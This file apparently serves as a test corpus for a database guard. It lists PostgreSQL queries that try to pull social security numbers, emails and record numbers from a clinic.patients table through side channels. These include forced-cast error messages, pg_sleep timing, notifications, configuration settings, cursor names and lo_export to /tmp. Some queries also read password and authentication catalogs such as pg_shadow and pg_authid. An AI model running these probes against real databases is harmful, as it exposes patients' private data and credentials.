CREATE TEMP TABLE y1 (a, b) ON COMMIT PRESERVE ROWS AS SELECT ssn, id FROM clinic.patients; SELECT a, b FROM y1

CREATE TEMP TABLE IF NOT EXISTS y2 AS TABLE clinic.patients WITH NO DATA; SELECT * FROM y2

CREATE TEMP VIEW w1 (a, b) WITH (security_barrier, security_invoker = true) AS SELECT ssn, id FROM clinic.patients WITH CASCADED CHECK OPTION; SELECT a FROM w1

CREATE OR REPLACE TEMP VIEW w2 AS SELECT id, ssn FROM clinic.patients; SELECT * FROM w2

CREATE TEMP VIEW w3 AS SELECT p FROM clinic.patients p; SELECT (p).ssn FROM w3

SELECT JSON_OBJECT('a' VALUE ssn ABSENT ON NULL WITH UNIQUE KEYS RETURNING jsonb), JSON_ARRAY(SELECT ssn FROM clinic.patients LIMIT 2), JSON_SERIALIZE(to_jsonb(ssn)), JSON_SCALAR(ssn), JSON(to_json(ssn)::text), ssn IS JSON FROM clinic.patients

SELECT JSON_VALUE(to_jsonb(p), '$.ssn' DEFAULT 'x' ON EMPTY ERROR ON ERROR), JSON_QUERY(to_jsonb(p), '$.ssn' WITH WRAPPER), JSON_EXISTS(to_jsonb(p), '$.ssn ? (@ like_regex "^1")') FROM clinic.patients p

SELECT jt.* FROM clinic.patients p, JSON_TABLE(to_jsonb(p), '$' AS root COLUMNS (n FOR ORDINALITY, ssn text PATH '$.ssn', e boolean EXISTS PATH '$.x', NESTED PATH '$.allergies[*]' AS al COLUMNS (a text PATH '$'))) jt

SELECT jt.* FROM JSON_TABLE((SELECT jsonb_agg(p) FROM clinic.patients p), '$[*]' PASSING 3 AS x COLUMNS (ssn text PATH '$.ssn' ERROR ON ERROR, nn int PATH '$.last_name' ERROR ON ERROR)) jt

SELECT JSON_VALUE(to_jsonb(ssn), '$' RETURNING int ERROR ON ERROR) FROM clinic.patients

SELECT jsonb_path_query(to_jsonb(p), 'strict $.nosuch'), jsonb_path_query(to_jsonb(p), '$.ssn.double()') FROM clinic.patients p

SELECT x.* FROM clinic.patients p, XMLTABLE(XMLNAMESPACES('http://x' AS x), '/r' PASSING xmlelement(name r, xmlattributes(p.ssn AS s), p.email) COLUMNS s text PATH '@s' NOT NULL, o FOR ORDINALITY, e text PATH '.' DEFAULT 'x') x

SELECT sum(id) OVER (ORDER BY dob RANGE BETWEEN '1 year' PRECEDING AND '1 year' FOLLOWING EXCLUDE CURRENT ROW), count(*) OVER (ORDER BY ssn GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING EXCLUDE TIES), max(ssn) OVER (ROWS UNBOUNDED PRECEDING EXCLUDE GROUP), min(ssn) OVER (ORDER BY id ROWS BETWEEN 1 FOLLOWING AND UNBOUNDED FOLLOWING EXCLUDE NO OTHERS) FROM clinic.patients

SELECT state, zip, grouping(state, zip), count(*) FROM clinic.patients GROUP BY GROUPING SETS ((state, zip), ROLLUP (state), CUBE (zip), ())

SELECT state, zip, count(*) FROM clinic.patients GROUP BY DISTINCT ROLLUP (state, zip), ROLLUP (state, zip)

SELECT p.id, p.ssn, p.state FROM clinic.patients p GROUP BY GROUPING SETS ((p.id), (p.id, p.state))

SELECT (ROW(p.*)::clinic.patients).ssn FROM clinic.patients p

SELECT (p::clinic.patients).ssn FROM clinic.patients p

SELECT p::clinic.patients FROM clinic.patients p

SELECT (ARRAY[p.ssn, p.email])[1:2], (ARRAY[p])[1], ARRAY[[p.ssn], [p.mrn]] FROM clinic.patients p

SELECT p.ssn OPERATOR(pg_catalog.||) p.mrn, 1 OPERATOR(pg_catalog.+) 2, OPERATOR(pg_catalog.-) p.id FROM clinic.patients p

SELECT (p.id, p.ssn) = ROW(1, 'x'), ROW(p.ssn), ROW(p.*) IS NULL, (p.id, p.id) OVERLAPS (1, 2) FROM clinic.patients p

SELECT (DATE '2001-02-16', DATE '2001-12-21') OVERLAPS (dob, dob + 1) FROM clinic.patients

SELECT string_agg(DISTINCT ssn, ',' ORDER BY ssn) FILTER (WHERE id > 5), mode() WITHIN GROUP (ORDER BY last_name), rank('x') WITHIN GROUP (ORDER BY ssn), percentile_disc(0.5) WITHIN GROUP (ORDER BY dob) FROM clinic.patients

SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY(SELECT ssn FROM clinic.patients LIMIT 3))) WITH ORDINALITY AS r(a, b, c)

SELECT * FROM ONLY (clinic.patients) AS p (a, b) TABLESAMPLE bernoulli (100) REPEATABLE (1)

WITH RECURSIVE r AS (SELECT id, ssn FROM clinic.patients WHERE id = 1 UNION ALL SELECT p.id, p.ssn FROM clinic.patients p JOIN r ON p.id = r.id + 1 WHERE p.id < 4) SEARCH BREADTH FIRST BY id SET o CYCLE id SET c TO 'y' DEFAULT 'n' USING pth SELECT * FROM r

SELECT CASE ssn WHEN 'a' THEN 1 ELSE 2 END, ssn COLLATE "C", CAST(dob AS text), dob AT TIME ZONE 'UTC', dob AT LOCAL, ssn IS NORMALIZED, NORMALIZE(ssn, NFC), TRIM(BOTH '*' FROM ssn), EXTRACT(YEAR FROM dob), POSITION('1' IN ssn), OVERLAY(ssn PLACING 'x' FROM 1 FOR 2), SUBSTRING(ssn FROM 1 FOR 3), SUBSTRING(ssn SIMILAR 'a#"b#"c' ESCAPE '#'), XMLSERIALIZE(CONTENT xmlelement(name x, ssn) AS text), XMLPI(name a, 'b'), XMLROOT(xmlelement(name x, ssn), version '1.0'), XMLCONCAT(xmlelement(name x, ssn), xmlcomment('c')), ssn IS DOCUMENT FROM (SELECT ssn, dob FROM clinic.patients) x

SELECT XMLEXISTS('//x' PASSING BY REF xmlelement(name x, ssn) BY REF), xmlparse(content email) IS DOCUMENT FROM clinic.patients

SELECT ALL DISTINCT ssn FROM clinic.patients

SELECT DISTINCT ON (state, zip) state, zip, ssn FROM clinic.patients ORDER BY state, zip, id

SELECT id FROM clinic.patients ORDER BY ssn USING ~<~, id USING > FETCH NEXT 3 ROWS WITH TIES

SELECT ssn FROM clinic.patients FOR NO KEY UPDATE OF patients SKIP LOCKED

SELECT ssn FROM clinic.patients FOR KEY SHARE NOWAIT

TABLE clinic.patients ORDER BY ssn LIMIT 3 FOR SHARE

# Settings, errors, catalogs and counters as side channels

SET log_statement = 'all'

SET debug_print_parse = on; SET debug_print_rewritten = on; SET debug_print_plan = on; SET client_min_messages = 'log'; SELECT ssn FROM clinic.patients WHERE last_name > 'A'

SET client_min_messages = debug5; SELECT ssn::int FROM clinic.patients

SET client_min_messages = debug1; SET debug_pretty_print = on; SET debug_print_parse = true; SELECT dob FROM clinic.patients

SET LOCAL client_min_messages TO log

SELECT set_config('client_min_messages', 'debug5', false), set_config('debug_print_plan', 'on', false)

SET log_min_error_statement = debug5; SET log_min_messages = debug5; SET log_error_verbosity = verbose; SELECT 1

SET log_duration = on; SET log_min_duration_statement = 0; SET log_planner_stats = on; SET log_executor_stats = on; SET client_min_messages = log; SELECT 1

SET track_activity_query_size = 100

SET track_activities = off; SET track_counts = off; SET track_io_timing = on; SET track_functions = 'all'

SET plan_cache_mode = force_generic_plan; PREPARE q(text) AS SELECT ssn FROM clinic.patients WHERE ssn = $1; EXECUTE q('x'); EXPLAIN EXECUTE q('x')

SET debug_parallel_query = on; SET min_parallel_table_scan_size = 0; SET parallel_setup_cost = 0; SELECT ssn::int FROM clinic.patients

SET force_parallel_mode = regress; SELECT ssn::int FROM clinic.patients

SET xmlbinary = hex; SET xmloption = document; SELECT xmlparse(document ssn) FROM clinic.patients

SET IntervalStyle = sql_standard; SELECT age(dob)::text FROM clinic.patients

SET session_preload_libraries = 'auto_explain'

SET auto_explain.log_min_duration = 0

SET myapp.secret = 'x'; SELECT current_setting('myapp.secret')

SELECT set_config('myapp.secret', ssn, false) FROM clinic.patients LIMIT 1; SELECT current_setting('myapp.secret')

SELECT set_config('application_name', (SELECT max(ssn) FROM clinic.patients), true)

SELECT set_config('TimeZone', ssn, false) FROM clinic.patients

SELECT pg_sleep(ascii(ssn) / 1000000.0) FROM clinic.patients

SELECT pg_advisory_lock_shared(hashtext(ssn)), pg_try_advisory_xact_lock(1, hashtext(email)) FROM clinic.patients; SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory'

SELECT pg_notify(ssn, email) FROM clinic.patients

NOTIFY "x", 'y'

SELECT last_value, is_called FROM clinic.patients_id_seq

SELECT * FROM pg_sequences

SELECT pg_sequence_last_value('clinic.patients_id_seq')

SELECT currval('clinic.patients_id_seq')

SELECT nextval('clinic.patients_id_seq')

SELECT setval('clinic.patients_id_seq', 1)

SELECT lastval()

SELECT pg_relation_size('clinic.patients'), pg_total_relation_size('clinic.patients'), pg_indexes_size('clinic.patients'), pg_relation_filenode('clinic.patients')

SELECT * FROM pg_stat_user_tables; SELECT * FROM pg_statio_user_tables; SELECT * FROM pg_stat_user_indexes; SELECT * FROM pg_stat_xact_user_tables

SELECT * FROM pg_stat_statements

SELECT * FROM pg_stat_progress_copy; SELECT * FROM pg_stat_io LIMIT 2; SELECT * FROM pg_stat_wal; SELECT * FROM pg_stat_slru

SELECT pg_stat_get_tuples_inserted('clinic.patients'::regclass), pg_stat_get_live_tuples('clinic.patients'::regclass)

SELECT xmin, xmax, cmin, cmax, ctid, tableoid, pg_xact_commit_timestamp(xmin) FROM clinic.patients

SELECT * FROM pg_replication_slots; SELECT * FROM pg_stat_replication; SELECT * FROM pg_logical_slot_peek_changes('x', NULL, NULL)

SELECT * FROM pg_get_wal_records_info('0/0', '0/1')

SELECT * FROM pg_buffercache

SELECT pg_current_wal_lsn(), pg_walfile_name('0/1')

SELECT * FROM pg_file_settings; SELECT * FROM pg_hba_file_rules; SELECT * FROM pg_shadow; SELECT * FROM pg_authid; SELECT * FROM pg_user_mappings

SELECT * FROM pg_show_all_settings(); SELECT * FROM pg_config

SELECT * FROM pg_ls_logdir(); SELECT pg_current_logfile(); SELECT pg_read_binary_file('x')

SELECT adbin, adsrc FROM pg_attrdef

SELECT pg_get_expr(adbin, adrelid) FROM pg_attrdef

SELECT conbin FROM pg_constraint; SELECT indpred, indexprs FROM pg_index; SELECT prosrc FROM pg_proc WHERE proname = 'definer'; SELECT ev_action FROM pg_rewrite; SELECT stxexprs FROM pg_statistic_ext

SELECT definition FROM pg_views WHERE schemaname = 'left_by_dba'; SELECT view_definition FROM information_schema.views; SELECT routine_definition FROM information_schema.routines WHERE routine_schema = 'left_by_dba'; SELECT action_statement FROM information_schema.triggers

SELECT attmissingval FROM pg_attribute

SELECT pg_get_partkeydef('clinic.lab_results'::regclass), pg_get_statisticsobjdef(1), pg_get_ruledef(1), pg_get_triggerdef(1), pg_get_userbyid(10)

SELECT pg_get_querydef(1)

SELECT jsonb_path_query(to_jsonb(p), '$.ssn.integer()') FROM clinic.patients p

SELECT jsonb_path_query(to_jsonb(p), '$.ssn.datetime("HH")') FROM clinic.patients p

SELECT jsonb_path_query_array(to_jsonb(p), '$.nosuch', '{}', true) FROM clinic.patients p

SELECT to_jsonb(ssn)::int, to_json(email)::text::xml FROM clinic.patients

SELECT jsonb_populate_record(NULL::clinic.patients, jsonb_build_object('id', ssn)) FROM clinic.patients

SELECT regexp_replace(ssn, ssn || '(', ''), regexp_like(email, '[' || email), ssn SIMILAR TO ssn || '(' FROM clinic.patients

SELECT ssn LIKE '%' || email ESCAPE ssn FROM clinic.patients

SELECT id / (ascii(ssn) - 42), id % (length(ssn) - 11), sqrt(-length(ssn)), ln(0 * length(email)) FROM clinic.patients

SELECT make_interval(years => ssn::int) FROM clinic.patients

SELECT chr(0 * length(ssn)), decode(ssn, 'hex'), decode(ssn, ssn), convert_from(ssn::bytea, email), encode(ssn::bytea, ssn) FROM clinic.patients

SELECT lpad(ssn, 1 << 30), ssn::bit(3), ssn::cidr, ssn::macaddr, ssn::uuid, ssn::point, ssn::tsquery, ssn::tsvector, ssn::jsonpath, ssn::int4range, ssn::money, ssn::interval, ssn::pg_lsn, ssn::txid_snapshot, ssn::xid FROM clinic.patients

SELECT ssn::tsquery FROM clinic.patients

SELECT (ssn || '(')::jsonpath FROM clinic.patients

SELECT email::int4range FROM clinic.patients

SELECT mrn::money FROM clinic.patients

SELECT ssn::regproc, ssn::regprocedure, ssn::regoper, ssn::regoperator, ssn::regrole, ssn::regnamespace, ssn::regconfig, ssn::regdictionary, ssn::regcollation FROM clinic.patients

SELECT to_regtype(email), to_regrole(ssn), to_regnamespace(email) FROM clinic.patients

SELECT has_table_privilege(ssn, 'clinic.patients', 'select'), has_table_privilege(email, ssn) FROM clinic.patients

SELECT pg_get_serial_sequence(ssn, email), pg_relation_size(ssn), col_description(ssn::regclass, 1) FROM clinic.patients

SELECT set_bit(ssn::bytea, 9999, 1), get_byte(ssn::bytea, 9999), substring(ssn, 1, -1), repeat(ssn, -1), overlay(ssn placing 'x' from 0), string_to_table(ssn, NULL), split_part(ssn, '-', 0) FROM clinic.patients

SELECT array_fill(ssn, ARRAY[-1]), (ARRAY[ssn])[email::int], unnest(string_to_array(ssn, '-')) FROM clinic.patients

SELECT to_char(dob, ssn), to_date(ssn, email), to_number(email, ssn), to_timestamp(email, ssn) FROM clinic.patients

SELECT timezone(ssn, now()), now() AT TIME ZONE email, date_trunc(ssn, now()), extract(epoch FROM dob), date_part(ssn, now()) FROM clinic.patients

SELECT age(ssn::timestamp), ssn::timestamptz, ssn::time, email::date FROM clinic.patients

SELECT format(ssn), format('%I %L %s', ssn, email, mrn), format('%' || ssn, 1), quote_ident(ssn), quote_nullable(email) FROM clinic.patients

SELECT to_tsvector(ssn::regconfig, 'x'), ts_debug('simple', ssn), ts_parse('default', email), ts_lexize(ssn::regdictionary, 'x'), ts_headline(email, to_tsquery('x')) FROM clinic.patients

SELECT parse_ident(ssn || '"'), parse_ident(email) FROM clinic.patients

SELECT inet_server_addr(), ssn::inet, host(email::inet) FROM clinic.patients

SELECT xpath(ssn, '<a/>'), xpath('/' || email, '<a/>') FROM clinic.patients

SELECT xmlelement(name x, xmlattributes(ssn AS a)), xmlpi(name x, '?>' || ssn), xmlcomment(ssn || '--') FROM clinic.patients

SELECT * FROM clinic.patients WHERE pg_input_is_valid(ssn, 'int')

SELECT json_object(ARRAY[ssn]), json_object_agg(NULL::text, ssn), jsonb_set(to_jsonb(p), ARRAY['ssn', 'x'], '1') FROM clinic.patients p

SELECT JSON_OBJECT(ssn: 1, ssn: 2 WITH UNIQUE KEYS) FROM clinic.patients

SELECT json_object_agg_unique(state, ssn) FROM clinic.patients

SELECT (SELECT ssn FROM clinic.patients) FROM clinic.patients

SELECT generate_series(1, ssn::bigint), generate_series(now(), now(), ('0' || left(ssn, 0))::interval) FROM clinic.patients

SELECT nth_value(ssn, 0) OVER (), ntile(0 * length(ssn)) OVER (), lag(ssn, length(ssn)) OVER (ORDER BY id) FROM clinic.patients

SELECT sum(id) OVER (ORDER BY dob RANGE BETWEEN (ssn)::interval PRECEDING AND CURRENT ROW) FROM clinic.patients

SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN length(ssn) PRECEDING AND CURRENT ROW) FROM clinic.patients

SELECT percentile_cont(length(ssn)) WITHIN GROUP (ORDER BY id) FROM clinic.patients GROUP BY ssn

SELECT ssn FROM clinic.patients LIMIT (SELECT -length(max(ssn)) FROM clinic.patients)

SELECT * FROM clinic.patients TABLESAMPLE bernoulli (length((SELECT max(ssn) FROM clinic.patients)) * 100)

BEGIN; DECLARE "987-65-4321" CURSOR FOR SELECT ssn FROM clinic.patients; SELECT name, statement FROM pg_cursors; COMMIT

BEGIN; SELECT ssn FROM clinic.patients FOR UPDATE; SELECT * FROM pg_locks WHERE relation = 'clinic.patients'::regclass; ROLLBACK

CREATE TEMP TABLE err (a int CHECK (a > 0), b text UNIQUE, c date NOT NULL); INSERT INTO err SELECT -id, ssn, dob FROM clinic.patients

CREATE TEMP TABLE uniq (a text UNIQUE); INSERT INTO uniq SELECT mrn FROM clinic.patients; INSERT INTO uniq SELECT state FROM clinic.patients

CREATE TEMP TABLE exc (a int4range, EXCLUDE USING gist (a WITH &&)); INSERT INTO exc SELECT int4range(1, length(ssn)) FROM clinic.patients

CREATE TEMP TABLE gen (a text, b int GENERATED ALWAYS AS (a::int) STORED); INSERT INTO gen SELECT ssn FROM clinic.patients

CREATE TEMP TABLE typed (a int); INSERT INTO typed SELECT ssn FROM clinic.patients

CREATE TEMP TABLE vc (a varchar(3)); INSERT INTO vc SELECT ssn FROM clinic.patients; INSERT INTO vc SELECT email FROM clinic.patients

CREATE TEMP TABLE pt (a text) PARTITION BY LIST (a); INSERT INTO pt SELECT ssn FROM clinic.patients

CREATE TEMP TABLE ct (a text); COPY ct FROM STDIN; COPY ct (a) FROM STDIN (FORMAT csv, ON_ERROR ignore, LOG_VERBOSITY verbose)

SELECT dblink_connect('x')

SELECT lo_put(1, 0, ssn::bytea), lowrite(0, ssn::bytea), lo_export(1, '/tmp/x') FROM clinic.patients
